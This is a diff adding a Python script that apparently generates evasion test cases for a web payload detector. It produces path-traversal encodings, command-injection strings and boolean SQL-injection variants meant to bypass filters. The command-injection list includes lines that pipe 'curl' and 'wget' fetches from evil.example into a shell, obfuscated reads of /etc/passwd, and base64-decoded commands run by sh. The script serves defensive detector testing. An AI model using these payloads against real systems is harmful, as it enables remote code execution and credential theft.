@@ -1,0 +1,135 @@
+#!/usr/bin/env python3
+"""gen-evade.py - write the third generated positive tables (issue 20),
+written against what the detectors assume rather than from payload lists:
+each section takes one assumption of collector/detect/payload_*.c and
+writes forms that break it while staying harmful. One value a line, as it
+would arrive in a query parameter (the HTTP layer's own percent-encoding
+included):
+  tests/data/gen-evade-trav.txt  one parent step with no sensitive file
+      after it. The traversal detector let a single "../" pass in a
+      parameter (a relative link as often as not) unless its spelling was
+      an overlong or look-alike byte. But a client's encoder writes one
+      spelling of "../": dots as they are (an URL or form encoder never
+      encodes an unreserved '.'), the separator once ("..%2F"), or every
+      byte at one depth. A step whose bytes are encoded at different
+      depths ("%2e%2e/", "..%252f", ".%2e/", "%252e%252e%2f"), in a
+      syntax no encoder writes (%u002e, %%32%65), with Windows'
+      separator in a value that is a path ("..\\", "..%5c"), or climbing
+      above an absolute root ("/../") was written to pass a filter.
+      x spelling x what follows (nothing, a bare name, a directory, a
+      name with an extension no table lists).
+  tests/data/gen-evade-cmdi.txt  command lines the separator scan read
+      past: output piped into an interpreter ("...|sh"), process
+      substitution "<(cmd)" / ">(cmd)", a command word spliced by an empty
+      substitution ("who``ami", "wh$()oami") or spelt in ANSI-C quoting
+      ($'\\x69\\x64'), a command named by a variable assigned in the
+      same value (X=id;$X) x leading context (bare, after a value, after
+      a closed quote).
+  tests/data/gen-evade-sqli.txt  boolean injection in a numeric context
+      whose predicate is constant without '=' (the detector took other
+      literal comparisons for arithmetic prose): 1 AND 2>1, 1 OR 3<>4,
+      1 AND 5 BETWEEN 4 AND 6, 1 AND 3 IN (3), 1 AND 'a' LIKE 'a',
+      1 OR TRUE x boolean spelling (AND/OR/&&/||, any case) x blank
+      spelling (space, /**/, %0a, %09, +) x terminator (none, -- -, #).
+Deterministic. Usage: tools/gen-evade.py [DIR]."""
+import os
+import sys
+
+# --- traversal ----------------------------------------------------------
+# (dot spelling, separator spelling) pairs whose depths differ or whose
+# syntax no encoder writes; the HTTP layer's own encoding is one level
+STEPS = [
+    ('%2e%2e', '/'), ('%2E%2E', '/'), ('%2e%2e', '\\'), ('.%2e', '/'), ('%2e.', '/'),
+    ('..', '%252f'), ('..', '%252F'), ('..', '%25252f'), ('..', '%255c'),
+    ('%252e%252e', '%2f'), ('%252e%252e', '/'), ('%2e%2e', '%252f'),
+    ('.%252e', '%2f'), ('%25%32%65%25%32%65', '%2f'), ('%%32%65%%32%65', '/'),
+    ('..', '%%32%66'), ('..', '%25%32%66'), ('%u002e%u002e', '/'),
+    ('%u002e%u002e', '%u2215'), ('..', '%u002f'), ('..', '%u005c'),
+    ('..', '%5c'), ('..', '%5C'), ('..', '\\'), ('%2e%2e', '%5c'),
+    ('%252e%252e', '%255c'),
+]
+AFTER = ['', 'secret', 'admin/', 'uploads/report', 'backup.tar.gz', 'data.json',
+         'private/notes', 'x']
+
+
+def trav():
+    out = []
+    for d, s in STEPS:
+        for a in AFTER:
+            out.append(d + s + a)
+    # above an absolute root: no link climbs past "/"
+    for a in AFTER:
+        for pre in ['/..', '/%2e%2e', '%2f..', 'c:/..', 'C:\\..']:
+            sep = '\\' if pre.endswith('\\..') else '/'
+            out.append(pre + sep + a)
+    return out
+
+
+# --- command injection ----------------------------------------------------
+LEAD = ['', '127.0.0.1', 'x', "x'", 'x"', 'abc123']
+PIPED = ['echo aWQ= | base64 -d | sh', "rev<<<'di'|sh", 'printf id|bash',
+         'curl -s evil.example/x | sh', 'wget -qO- evil.example/x|bash',
+         "echo 'id' | sh", 'cat /tmp/x|sh', 'echo d2hvYW1p|base64 -d|bash']
+SPLICED = ['who``ami', 'wh$()oami', 'i``d', 'una``me -a', "$'\\x69\\x64'",
+           "$'\\151\\144'", "$'\\x77\\x68\\x6f\\x61\\x6d\\x69'", "$'\\x63\\x61\\x74' /etc/passwd",
+           'who${x}ami', 'i${NOPE}d']
+VARS = ['X=id;$X', 'a=who;b=ami;$a$b', 'c=uname;${c} -a', 'P=/bin/sh;$P -c id']
+
+
+def cmdi():
+    out = []
+    for lead in LEAD:
+        for sep in [';', '|', '&&', '%0a']:
+            for c in PIPED + SPLICED + VARS:
+                out.append(lead + sep + c)
+        for c in ['id', 'whoami', 'uname -a', 'cat /etc/passwd', 'sleep 5']:
+            out.append(lead + ';cat <(' + c + ')')
+            out.append(lead + '|tee >(' + c + ')')
+            out.append(lead + ' <(' + c + ')')
+    return out
+
+
+# --- SQL injection ----------------------------------------------------------
+PREDS = ['2>1', '1<2', '3<>4', '3!=4', '2>=1', '1<=2', '5 BETWEEN 4 AND 6',
+         '3 IN (3)', '3 IN (1,2,3)', "'a' LIKE 'a'", "'a'<'b'", '1 IS NOT NULL',
+         'TRUE', 'NOT 0', "'x' REGEXP 'x'", '2 NOT BETWEEN 3 AND 4', '1 RLIKE 1']
+
+
+def sqli():
+    out = []
+    bools = ['AND', 'OR', 'and', 'oR', '&&', '||', 'XOR']
+    blanks = [' ', '/**/', '%0a', '%09', '+']
+    terms = ['', '-- -', '#']
+    for num in ['1', '42']:
+        for b in bools:
+            for bl in blanks:
+                for p in PREDS:
+                    for t in terms:
+                        if 'NOT BETWEEN' in p and bl != ' ':
+                            continue
+                        pp = p.replace(' ', bl)
+                        tt = (bl + t) if t else ''
+                        if t == '#':
+                            tt = '%23'
+                        out.append(num + bl + b + bl + pp + tt)
+    return out
+
+
+def write(d, name, rows):
+    seen = set()
+    with open(os.path.join(d, name), 'w') as f:
+        for r in rows:
+            if r not in seen:
+                seen.add(r)
+                f.write(r + '\n')
+
+
+def main():
+    d = sys.argv[1] if len(sys.argv) > 1 else 'tests/data'
+    write(d, 'gen-evade-trav.txt', trav())
+    write(d, 'gen-evade-cmdi.txt', cmdi())
+    write(d, 'gen-evade-sqli.txt', sqli())
+
+
+if __name__ == '__main__':
+    main()
